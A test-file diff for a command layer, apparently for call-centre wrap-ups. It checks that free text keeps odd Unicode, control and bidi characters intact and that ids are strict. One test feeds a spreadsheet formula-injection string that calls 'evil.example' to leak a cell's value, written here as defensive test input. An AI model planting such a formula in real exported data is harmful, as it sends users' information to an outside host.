@@ -1,0 +1,68 @@
+"""Free text is kept as it is, and an id is strict."""
+
+from __future__ import annotations
+
+import pytest
+from pydantic import ValidationError
+
+from domain import commands
+from domain.vocabulary import SYSTEM
+from tests.domain import scenes as s
+from tests.domain.scenes import A1
+from tests.domain.specification import command, given
+
+FREE = [
+    pytest.param("asks to be called back\non Tuesday", id="two lines"),
+    pytest.param("first\r\n\r\nsecond\u2028third\u2029fourth", id="all breaks of lines"),
+    pytest.param("a\tb", id="a tab"),
+    pytest.param("👩\u200d👩\u200d👧\u200d👦 ❤️", id="joined emoji"),
+    pytest.param("\u200fשלום\u200e \u202eabc\u202c", id="marks of direction"),
+    pytest.param("a\x00b\x1b[31m", id="controls, NUL among them"),
+    pytest.param("می\u200cخواهم", id="joined no more"),
+    pytest.param("\ue000\U0010ffff", id="private and unassigned characters"),
+    pytest.param("e\u0301 \u00e9", id="composed and not"),
+    pytest.param("  ", id="blanks"),
+    pytest.param("x" * 1000, id="as long as may be"),
+]
+
+
+@pytest.mark.parametrize("text", FREE)
+def test_a_note_and_a_why_are_kept_as_they_are(text: str) -> None:
+    note = command(commands.ApplyWrapUp, A1, reason="sold", note=text)
+    for when in (given(*s.ended()).when, given(*s.ended()).when_observed):
+        when(note).with_fields("wrap-up-applied", reason="sold", note=text)
+    why = command(commands.Correct, "auditor", corrected_version=1, why=text)
+    given(*s.closed()).when(why).with_fields("corrected", why=text)
+
+
+@pytest.mark.parametrize("text", [one for one in FREE if "x" * 1000 not in one.values])
+def test_names_and_other_systems_words_are_kept_as_they_are(text: str) -> None:
+    customer = command(commands.Receive, SYSTEM, customer=text)
+    given().when(customer).with_fields("received", customer=text)
+    note = command(commands.NoteActivity, SYSTEM, activity=text)
+    given(*s.queued()).when(note).with_fields("activity-noted", activity=text)
+    cut = command(commands.MarkIncomplete, SYSTEM, missing=text)
+    given(*s.queued()).when(cut).with_fields("marked-incomplete", missing=text)
+
+
+def test_an_empty_note_does_not_lose_the_reason() -> None:
+    note = command(commands.ApplyWrapUp, A1, reason="sold", note="")
+    given(*s.ended()).when(note).with_fields("wrap-up-applied", reason="sold")
+
+
+@pytest.mark.parametrize("text", ["x" * 1001, "\ud83d"])
+def test_what_is_too_long_or_no_text_at_all_is_not_read(text: str) -> None:
+    with pytest.raises(ValidationError):
+        command(commands.ApplyWrapUp, A1, reason="sold", note=text)
+
+
+@pytest.mark.parametrize("text", ["a\nb", "a\tb", "a\u200db", "\u200fa", "a\x00", "", "x" * 129])
+@pytest.mark.parametrize("field", ["call_id", "actor", "reason"])
+def test_ids_and_codes_are_strict(field: str, text: str) -> None:
+    with pytest.raises(ValidationError):
+        command(commands.ApplyWrapUp, **{"actor": A1, "reason": "sold", field: text})
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1)', "+390612345678", "@a"])
+def test_what_a_spreadsheet_would_read_as_a_formula_is_an_id_like_any_other(text: str) -> None:
+    assert command(commands.ApplyWrapUp, text, reason=text, call_id=text).call_id == text
